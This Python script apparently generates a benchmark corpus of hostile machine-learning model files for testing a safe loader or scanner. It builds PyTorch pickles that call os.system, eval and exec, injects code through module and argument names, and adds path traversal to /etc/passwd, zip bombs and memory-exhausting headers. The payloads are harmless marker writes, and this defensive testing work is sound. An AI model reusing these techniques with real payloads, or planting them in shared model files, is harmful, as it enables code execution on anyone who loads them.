"""Write hostile files: each would run a payload, take all memory, or never end, if believed.

    python -m benchmarks._hostile FOLDER

A payload is `echo > pwned_FILE` in the folder of the file.
"""

from __future__ import annotations

import functools
import io
import json
import os
import pickle
import sys
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import torch
from torch import nn

from benchmarks._hostile_graphs import graphs

Files = dict[str, bytes]


class Call:
    """Pickles as a call of a function with arguments."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.reduced = (function, args)

    def __reduce__(self) -> Any:
        """Return the call."""
        return self.reduced


def payload(name: str) -> Call:
    """Return what runs the payload of a file when it is unpickled."""
    return Call(os.system, f"echo > pwned_{name}")


def small() -> nn.Sequential:
    """Return a model with weights and a norm."""
    return nn.Sequential(nn.Conv2d(3, 4, 3), nn.BatchNorm2d(4), nn.ReLU()).eval()


def saved(value: Any, *, zipped: bool = True) -> bytes:
    """Return what `torch.save` writes."""
    data = io.BytesIO()
    before = sys.getrecursionlimit()
    sys.setrecursionlimit(20_000)
    try:
        torch.save(value, data, _use_new_zipfile_serialization=zipped)
    finally:
        sys.setrecursionlimit(before)
    return data.getvalue()


def archive(members: dict[str, bytes] | list[tuple[str, bytes]], **how: Any) -> bytes:
    """Return a zip archive of members."""
    data = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(data, "w", **how) as written:
        warnings.simplefilter("ignore")
        for name, content in dict(members).items() if isinstance(members, dict) else members:
            written.writestr(name, content)
    return data.getvalue()


def members_of(data: bytes) -> dict[str, bytes]:
    """Return the members of an archive."""
    with zipfile.ZipFile(io.BytesIO(data)) as held:
        return {name: held.read(name) for name in held.namelist()}


def stream(text: bytes) -> bytes:
    """Return a checkpoint archive whose pickle is these opcodes."""
    return archive({"a/data.pkl": b"\x80\x02" + text})


def with_attribute(name: str, value: Any) -> nn.Module:
    """Return a model with an attribute that no method of it sees."""
    model = small()
    vars(model)[name] = value
    return model


# -- pickles --------------------------------------------------------------------------------------


def called() -> Iterator[tuple[str, Any]]:
    """Yield values whose pickles call something, by the name of the file."""
    yield "plain_call.pt", payload("plain_call.pt")
    yield "in_a_state_dict.pt", {"w": torch.ones(2), "x": payload("in_a_state_dict.pt")}
    yield "in_an_attribute.pt", with_attribute("x", payload("in_an_attribute.pt"))
    yield "in_a_partial.pt", with_attribute("x", functools.partial(os.system, "echo > pwned"))
    yield "as_a_key.pt", with_attribute("x", {("a", 1): payload("as_a_key.pt")})
    yield "in_metadata.pt", with_attribute("_metadata", [payload("in_metadata.pt")])
    yield "eval_text.pt", Call(eval, "__import__('os').system('echo > pwned_eval_text.pt')")
    yield "exec_text.pt", Call(exec, "import os; os.system('echo > pwned_exec_text.pt')")
    yield "getattr_of_a_module.pt", Call(getattr, Call(__import__, "os"), "system")
    yield "opens_a_file.pt", Call(open, "pwned_opens_a_file.pt", "w")
    yield "import_module.pt", Call(__import__, "antigravity")
    yield "hub_load.pt", Call(torch.hub.load, ".", "x", "local")
    yield "torch_load.pt", Call(torch.load, "good.pt")
    yield "map_of_system.pt", Call(list, Call(map, os.system, ["echo > pwned_map_of_system.pt"]))
    yield "in_place_of_a_method.pt", with_attribute("state_dict", nn.ReLU)
    yield "partial_of_a_function.pt", with_attribute("x", functools.partial(torch.relu))
    yield "from_file.pt", with_attribute("x", torch.from_file)
    yield "huge_range.pt", Call(frozenset, range(2 * 10**9))
    yield "huge_set.pt", with_attribute("x", Call(set, range(2 * 10**9)))


def circular() -> Iterator[tuple[str, Any]]:
    """Yield values that contain themselves, or are too deep."""
    nested: dict[str, Any] = {}
    nested["model"] = nested
    yield "nested_in_itself.pt", nested
    module = nn.Sequential(nn.Linear(2, 2))
    module._modules["self"] = module
    yield "module_in_itself.pt", module
    two = nn.Sequential(nn.Sequential(nn.Linear(2, 2)))
    inner = two[0]
    assert isinstance(inner, nn.Module)
    inner._modules["up"] = two
    yield "modules_in_each_other.pt", two
    deep = nn.Sequential(nn.Linear(2, 2))
    for _ in range(220):
        deep = nn.Sequential(deep)
    yield "deep.pt", deep


def named() -> Iterator[tuple[str, Any]]:
    """Yield models with names that are more than names in generated source."""
    code = '0")\rgetattr(__import__("os"), "system")("echo > pwned_child_name.pt")\rdef r(self, "0'
    places = {"child": "_modules", "parameter": "_parameters", "buffer": "_buffers"}
    for kind, place in places.items():
        model = small()
        value = nn.ReLU() if kind == "child" else nn.Parameter(torch.ones(1))
        getattr(model, place)[code] = value
        yield f"{kind}_name.pt", model
    model = small()
    model._modules["\x1b[2Jx"] = nn.ReLU()
    yield "terminal_name.pt", model
    model = small()
    model._modules["a.b"] = nn.ReLU()
    yield "dotted_name.pt", model


def opcodes() -> Iterator[tuple[str, bytes]]:
    """Yield archives whose pickles are written by hand."""
    yield "names_a_program.pt", stream(b"ctorch.utils.model_dump.__main__\nmain\n)\x81.")
    yield "inst.pt", stream(b"(S'echo > pwned_inst.pt'\nios\nsystem\n.")
    yield "obj.pt", stream(b"(cos\nsystem\nS'echo > pwned_obj.pt'\no.")
    yield "extension.pt", stream(b"\x82\x01.")
    yield "terminal_global.pt", stream(b"c\x1b[2J\nx\n)R.")
    yield "own_reader_name.pt", stream(b"c<rewrite\ngraphfile.SavedGraph>\n)R.")
    yield "long_int.pt", stream(b"\x8b\x40\x42\x0f\x00" + bytes(1_000_000) + b".")
    yield "long_string.pt", stream(b"X\xff\xff\xff\x7fabc.")
    yield "endless_marks.pt", stream(b"(" * 2_000_000 + b".")
    yield "wide.pt", stream(b"(" + b"}" * 900_000 + b"t.")
    yield "no_stop.pt", stream(b"}" * 10)
    yield "memo_far.pt", stream(b"j\xff\xff\xff\x7f.")


def archives() -> Iterator[tuple[str, bytes]]:
    """Yield archives whose structure lies."""
    good = members_of(saved(small()))
    root = next(iter(good)).partition("/")[0]
    evil = pickle.dumps(payload("two_pickles.pt"), protocol=2)
    yield "two_pickles.pt", archive([*good.items(), (f"{root}/data.pkl", evil)])
    yield "two_cases.pt", archive([*good.items(), (f"{root}/DATA.PKL", evil)])
    yield "two_roots.pt", archive([*good.items(), ("other/data.pkl", evil)])
    bomb = {"a/data.pkl": bytes(600 << 20)}
    yield "bomb.pt", archive(bomb, compression=zipfile.ZIP_DEFLATED)
    yield "truncated.pt", saved(small())[:-40]
    yield "script.pt", archive({"a/data.pkl": good[f"{root}/data.pkl"], "a/constants.pkl": evil})
    old = saved(payload("old_call.pt"), zipped=False)
    yield "old_call.pt", old
    yield "bare_pickle.pt", pickle.dumps(payload("bare_pickle.pt"))


# -- exported programs ----------------------------------------------------------------------------


def programs() -> Iterator[tuple[str, bytes]]:
    """Yield exported programs, each with one thing that `torch.export.load` would believe."""
    data = io.BytesIO()
    torch.export.save(torch.export.export(small(), (torch.randn(1, 3, 8, 8),)), data)
    good = members_of(data.getvalue())
    root = next(iter(good)).split("/")[0]
    model = next(name for name in good if "/models/" in name)
    weights = f"{root}/data/weights/model_weights_config.json"
    constants = next(name for name in good if name.endswith("constants_config.json"))

    def edited(member: str, edit: Callable[[Any], None], **more: bytes) -> bytes:
        content = json.loads(good[member])
        edit(content)
        extra = {f"{root}/{key}": value for key, value in more.items()}
        return archive({**good, member: json.dumps(content).encode(), **extra})

    like = json.loads(good[weights])["config"]["0.weight"]
    call = "y=__import__('os').system('echo > pwned_argument_names.pt2')"
    signature = ("graph_module", "module_call_graph", 0, "signature", "forward_arg_names")
    yield "argument_names.pt2", edited(model, lambda j: _put(j, signature, ["input", call]))
    opaque = {**like, "path_name": "opaque_obj_0"}
    evil = pickle.dumps(payload("opaque_constant.pt2"))
    yield (
        "opaque_constant.pt2",
        edited(
            constants,
            lambda j: j["config"].update(x=opaque),
            **{"data/constants/opaque_obj_0": evil},
        ),
    )
    pickled = {**like, "use_pickle": True}
    yield (
        "pickled_weight.pt2",
        edited(weights, lambda j: j["config"].update({"0.weight": pickled})),
    )
    upward = {**like, "path_name": "../../../etc/passwd"}
    yield "upward.pt2", edited(weights, lambda j: j["config"].update({"0.weight": upward}))
    sample = saved(payload("sample_inputs.pt2"))
    yield (
        "sample_inputs.pt2",
        archive({**good, f"{root}/data/sample_inputs/model.pt": sample}),
    )
    yield "library.pt2", archive({**good, f"{root}/data/aotinductor/model/x.so": b"\x7fELF"})
    text = json.loads(good[model])
    text["range_constraints"] = {"s0": {"expr_str": "Mod(9**9**9**9, 7)"}}
    yield "endless_size.pt2", archive({**good, model: json.dumps(text).encode()})
    yield "no_json.pt2", archive({**good, model: b"[" * 100_000})
    yield (
        "two_members.pt2",
        archive([*good.items(), (weights, json.dumps({"config": {"0.weight": pickled}}).encode())]),
    )
    yield "two_programs.pt2", archive({**good, f"{root}/models/other.json": good[model]})


def _put(content: Any, place: tuple[Any, ...], value: Any) -> None:
    for key in place[:-1]:
        content = content[key]
    content[place[-1]] = value


# -- graphs and safetensors -----------------------------------------------------------------------


def others() -> Iterator[tuple[str, bytes]]:
    """Yield safetensors and ONNX files whose sizes and names lie."""
    yield "header.safetensors", (1 << 40).to_bytes(8, "little") + b"{}"
    header = json.dumps({"w": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 4]}})
    data = len(header).to_bytes(8, "little") + header.encode() + bytes(4)
    yield "huge_shape.safetensors", data
    yield "nested.safetensors", (100_000).to_bytes(8, "little") + b"[" * 100_000
    import onnx
    from onnx import TensorProto, helper

    def graph(name: str = "x", tensor: Any = None) -> bytes:
        value = helper.make_tensor_value_info(name, TensorProto.FLOAT, [1])
        out = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
        node = helper.make_node("Relu", [name], ["y"])
        made = helper.make_graph([node], "g", [value], [out], [tensor] if tensor else [])
        content: bytes = onnx.helper.make_model(made).SerializeToString()
        return content

    far = onnx.TensorProto(name="w", data_type=1, dims=[4], data_location="EXTERNAL")
    far.external_data.add(key="location", value="../../etc/passwd")
    yield "outside.onnx", graph(tensor=far)
    absolute = onnx.TensorProto(name="w", data_type=1, dims=[4], data_location="EXTERNAL")
    absolute.external_data.add(key="location", value="/etc/passwd")
    yield "absolute.onnx", graph(tensor=absolute)
    yield "terminal.onnx", graph("\x1b[2Jx")
    yield "negative.onnx", graph(tensor=onnx.TensorProto(name="w", data_type=1, dims=[-4]))
    yield (
        "huge_tensor.onnx",
        graph(tensor=onnx.TensorProto(name="w", data_type=1, dims=[1 << 40], raw_data=b"abcd")),
    )
    yield "truncated.onnx", graph()[:-9]


def contents() -> Files:
    """Return every file by its name."""
    values: Files = {}
    for source in (called, circular, named):
        values |= {name: saved(value) for name, value in source()}
    values["old_format.pt"] = saved(
        OrderedDict(x=payload("old_format.pt")), zipped=False
    )  # the format before zip archives
    for made in (opcodes, archives, programs, others, graphs):
        values |= dict(made())
    return values


def write(folder: Path) -> list[str]:
    """Write every file into a folder; return their names."""
    files = contents()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return list(files)


if __name__ == "__main__":
    print("\n".join(write(Path(sys.argv[1]))))
